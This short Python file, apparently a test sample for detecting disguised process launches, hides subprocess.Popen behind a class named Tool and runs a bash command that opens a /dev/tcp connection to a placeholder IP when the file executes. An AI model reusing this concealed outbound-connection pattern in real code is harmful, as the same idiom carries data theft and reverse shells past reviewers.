import subprocess
class Tool:
    start = staticmethod(subprocess.Popen)
    command = ["bash", "-c", "echo hi > /dev/tcp/203.0.113.2/80"]
Tool.start(Tool.command)
